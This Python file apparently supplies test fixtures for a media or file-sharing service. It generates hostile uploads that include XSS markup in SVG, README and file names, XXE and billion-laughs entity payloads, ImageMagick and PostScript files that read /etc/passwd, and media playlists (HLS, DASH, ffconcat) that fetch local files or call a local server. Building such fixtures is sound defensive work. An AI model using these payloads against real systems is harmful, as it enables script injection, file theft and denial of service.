"""Texts that a browser, a decoder or a list of files would run, follow or expand."""

SCRIPT = "<script>document.title='owned';fetch('/owned')</script>"
SVG = ("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='90' height='90' onload='top.owned=1'>"
       f"{SCRIPT}<image xlink:href='file:///etc/passwd' width='9' height='9'/>"
       "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:top.owned=1'/></foreignObject></svg>")
README = f"""# Welcome {SCRIPT}

<img src=x onerror="top.owned=1"> <iframe srcdoc="{SCRIPT.replace('"', "'")}"></iframe>

[run](javascript:top.owned=1) [data](data:text/html,{SCRIPT}) [odd](JaVaScRiPt&#58;top.owned=1) <javascript:top.owned=1>

![far](http://127.0.0.1:9/track.gif) ![local](file:///etc/passwd) ![svg](script.svg)

[ref]: javascript:top.owned=1 "x"
[ref] <svg onload=top.owned=1> <style>@import 'http://127.0.0.1:9/x.css'; body {{ display: none }}</style>
<base href="http://127.0.0.1:9/"><meta http-equiv=refresh content="0;url=http://127.0.0.1:9/"><form action=http://127.0.0.1:9/><button>
"""


def xxe(secret: str) -> str:
    return (f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]>'
            "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='90'><text y='20'>&x;</text></svg>")


def files() -> dict[str, bytes]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE svg [<!ENTITY a0 "ha">{laughs}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>'
    wide = "<svg xmlns='http://www.w3.org/2000/svg' width='100000' height='100000'><rect width='100%' height='100%'/></svg>"
    return {
        "README.md": README.encode(),
        "script.svg": SVG.encode(),
        "script.jpg": SVG.encode(),
        "script.png": SVG.encode(),
        "laughs.svg": bomb.encode(),
        "laughs.avif": bomb.encode(),
        "wide.tif": wide.encode(),
        "page.gif": b"GIF89a=1;/*" + SCRIPT.encode() + b"*/",
        "page.jpg": f"<!doctype html>{SCRIPT}".encode(),
        "drawing.jpg": b"push graphic-context\nviewbox 0 0 9 9\nfill 'url(http://127.0.0.1:9/)'\nimage over 0,0 0,0 '/etc/passwd'\npop graphic-context\n",
        "drawing.png": b"%!PS\n(/etc/passwd) (r) file 100 string readstring pop print showpage\n",
        "<img src=x onerror=top.owned=1>.jpg": b"no picture",
        "\"><script>top.owned=1<⁄script>.txt": b"a name",
    }


def lists(secret: str, port: int) -> dict[str, bytes]:
    """Videos that are lists of other things: a file that is not shared, and a server that must not hear of it."""
    here = f"http://127.0.0.1:{port}/heard"
    playlist = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:9\n#EXTINF:9.0,\n{}\n#EXT-X-ENDLIST\n"
    dash = (f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period>'
            f'<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="9"><BaseURL>{here}</BaseURL></Representation>'
            "</AdaptationSet></Period></MPD>")
    texts = {
        "playlist of a file.mp4": playlist.format(f"file://{secret}"),
        "playlist of a path.mp4": playlist.format(secret),
        "playlist of two.mov": playlist.format(f"concat:http://127.0.0.1:{port}/heard|file://{secret}"),
        "playlist of a server.mp4": playlist.format(here),
        "playlist of a key.avi": playlist.format(secret).replace("#EXTINF",
                                                                 f'#EXT-X-KEY:METHOD=AES-128,URI="{here}"\n#EXTINF'),
        "concat.mkv": f"ffconcat version 1.0\nfile '{secret}'\n",
        "dash.webm": dash,
        "session.mp4": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n",
        "entity.mp4": xxe(secret),
        "entity.svg": xxe(secret),
        "entity.jpg": xxe(secret),
        "smil.m4v": f"<smil><body><video src='{here}'/></body></smil>",
        "subtitles.avi": f"WEBVTT\n\n00:00.000 --> 00:01.000\n{here}\n",
        "asf.3gp": f"[Reference]\nRef1={here}\n",
    }
    return {name: text.encode() for name, text in texts.items()}
